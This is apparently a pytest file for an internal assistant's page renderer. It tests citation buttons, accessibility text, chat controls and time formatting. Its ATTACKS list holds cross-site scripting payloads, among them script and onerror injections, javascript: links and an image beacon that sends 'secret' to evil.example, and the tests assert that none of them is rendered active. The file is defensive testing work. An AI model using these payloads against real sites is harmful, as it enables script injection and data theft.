"""What the pages make of untrusted text: markers become buttons, and nothing becomes a script, an image or a link."""

from __future__ import annotations

import re
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser

import pytest

from assistant.pages import render, shell
from assistant.pages.welcome import _clumsy
from core.records import Citation, Conversation

ATTACKS = (
    "<script>window.hacked=1</script>",
    '<img src=x onerror="window.hacked=1">',
    "<svg/onload=alert(1)>",
    '"><iframe src="https://evil.example">',
    "[click](javascript:alert(1))",
    "![x](https://evil.example/beacon.png?q=secret)",
    "<https://evil.example>",
    "[ref]: https://evil.example\n\n[ref]",
    "${window.hacked=1} {{#each value}}{{this}}{{/each}} `${1}`",
    "</textarea><style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='javascript:alert(1)'>x</a>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](data:text/html,1) |",
)


class Tags(HTMLParser):
    """Every tag with its attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def citation(n: int = 1, **changes: object) -> Citation:
    values: dict[str, object] = {
        "n": n,
        "passage_id": "a" * 32,
        "document_id": "hr-annual-leave",
        "version": 3,
        "title": "Annual leave policy",
        "section": "Carry-over",
        "page": 2,
        "quote": "Up to 5 days may be carried over.",
        "score": 0.8,
        "owner": "people@kestrelbay.example",
        "classification": "internal",
        "effective": date(2026, 1, 1),
    }
    return Citation(**(values | changes))  # type: ignore[arg-type]


def shown(**changes: object) -> render.Shown:
    values: dict[str, object] = {
        "turn_id": "t1",
        "question": "How many days?",
        "answer": "Up to 5 days [1].",
        "status": "answered",
        "reason": "",
        "citations": (citation(),),
        "adapter": "quote-1",
        "evidence": 0.83,
        "low_evidence": False,
    }
    return render.Shown(**(values | changes))  # type: ignore[arg-type]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_from_a_person_a_model_or_a_document_becomes_active_html(attack: str) -> None:
    everywhere = shown(
        question=attack,
        answer=f"{attack} [1]",
        adapter=attack,
        citations=(citation(title=attack, section=attack, quote=attack, document_id=attack),),
    )
    pages = (
        render.exchange(everywhere, last=True, temporary=False),
        render.waiting(attack, [attack], "run"),
        render.problem(attack, attack),
        render.rich(attack),
    )
    for page in pages:
        for tag, attributes in Tags(page).found:
            assert tag not in ("script", "img", "iframe", "style", "a", "object", "embed", "form")
            assert not [name for name in attributes if name.startswith("on") or name in ("src", "srcdoc")], tag
            assert re.fullmatch(r"(width:\d+%)?", attributes.get("style") or ""), tag
        assert not set(page) & set("{}$`"), "what Gradio's templates could read"


def test_markers_of_known_sources_open_them_and_unknown_ones_stay_text() -> None:
    page = render.rich("Five days [1], or ten [7].", (citation(),))
    buttons = [attributes for tag, attributes in Tags(page).found if tag == "button"]
    assert [b["data-href"] for b in buttons] == [render.source_url(citation())]
    assert buttons[0]["aria-label"] == "Source 1: Annual leave policy"
    assert "[7]" in page


def test_a_marker_opens_nothing_while_the_answer_is_still_being_written() -> None:
    page = render.waiting("How many?", ["Five days [1]."], "run")
    assert "data-href" not in page
    assert '<span class="ea-marker">1</span>' in page


def test_tables_scroll_by_themselves_and_can_be_reached_by_keyboard() -> None:
    page = render.rich("| Service | Days |\n|---|---|\n| 5 years | 30 |")
    assert '<div class="ea-table" tabindex="0"><table>' in page
    assert "<td>30</td>" in page


def test_a_chip_names_title_section_and_page_once() -> None:
    assert render.place(citation()) == "Annual leave policy · Carry-over · p. 2"
    assert render.place(citation(section="Annual leave policy", page=None)) == "Annual leave policy"


def test_only_the_last_exchange_can_be_edited_or_answered_again() -> None:
    assert 'data-act="regenerate"' not in render.exchange(shown(), last=False, temporary=False)
    last = render.exchange(shown(), last=True, temporary=False)
    assert 'data-act="regenerate"' in last
    assert 'data-act="edit"' in last


def test_a_temporary_chat_offers_no_feedback_since_nothing_is_kept() -> None:
    page = render.exchange(shown(), last=True, temporary=True)
    assert 'data-act="flag"' not in page
    assert 'data-act="up"' not in page


def test_little_evidence_is_said_in_words_and_as_a_number() -> None:
    page = render.exchange(shown(evidence=0.41, low_evidence=True), last=True, temporary=False)
    assert "Little evidence" in page
    assert 'aria-valuenow="41"' in page


def test_a_refusal_is_a_notice_with_an_address_to_write_to() -> None:
    refused = shown(status="no_answer", answer="Ask it@kestrelbay.example.", citations=())
    page = render.exchange(refused, last=True, temporary=False)
    assert '<a href="mailto:it@kestrelbay.example">' in page
    assert "I found no answer" in page


def test_a_screen_reader_hears_words_without_markers_or_markup() -> None:
    assert render.spoken("**Five** days [1].") == "Five days ."
    assert render.summary(shown()) == "Answer complete, 1 source."


def test_thumbs_and_flags_are_drawn_as_they_were_given() -> None:
    page = render.exchange(shown(thumb="down", flagged=True), last=True, temporary=False)
    pressed = {a["data-act"]: a.get("aria-pressed") for t, a in Tags(page).found if t == "button" and "data-act" in a}
    assert (pressed["up"], pressed["down"], pressed["flag"]) == ("false", "true", "true")


def test_conversations_are_listed_under_the_day_that_they_were_last_used() -> None:
    now = datetime(2026, 11, 22, 12, tzinfo=UTC)
    ages = {"Today": 0, "Yesterday": 1, "Last 7 days": 4, "Last 30 days": 20, "Older": 90}
    found = [Conversation(name, "emma", f"About {name}", now, now - timedelta(days=age)) for name, age in ages.items()]
    page = shell.conversations(found, "Today", searched=False, today=now.date())
    assert [page.index(f"<h2>{name}</h2>") for name in ages] == sorted(page.index(f"<h2>{name}</h2>") for name in ages)
    assert page.count("<ul>") == page.count("</ul>") == len(ages)
    assert page.count("aria-current") == 1


def test_a_time_says_its_zone_where_no_script_runs_and_carries_it_for_the_one_that_does() -> None:
    page = render.moment(datetime(2026, 11, 20, 9, 30, tzinfo=UTC))
    assert page == '<time class="ea-when" datetime="2026-11-20T09:30:00+00:00">2026-11-20 09:30 UTC</time>'
    assert render.day(date(2026, 3, 1)) == '<time datetime="2026-03-01">1 Mar 2026</time>'


def test_a_filter_offers_languages_by_name_and_those_without_one_by_code() -> None:
    offered = render.language_choices(["es", "en", "", "xx", "en"])
    assert offered == [("Any language", ""), ("English", "en"), ("Spanish", "es"), ("xx", "xx")]


def test_a_page_of_a_role_says_whose_it_is() -> None:
    assert "for reviewers and administrators" in shell.top("Review", only="support")
    assert "for administrators" in shell.top("Usage", only="admin")
    assert "ea-closed" not in shell.top("Chat") and "<h1>" not in shell.top("")


@pytest.mark.parametrize(
    "heading", ["Step by step on our template", "If you disagree with your rating", "How to apply"]
)
def test_a_heading_that_is_no_object_of_tell_me_about_is_not_suggested(heading: str) -> None:
    assert _clumsy(heading)
    assert not _clumsy("Carrying leave over to the next year")
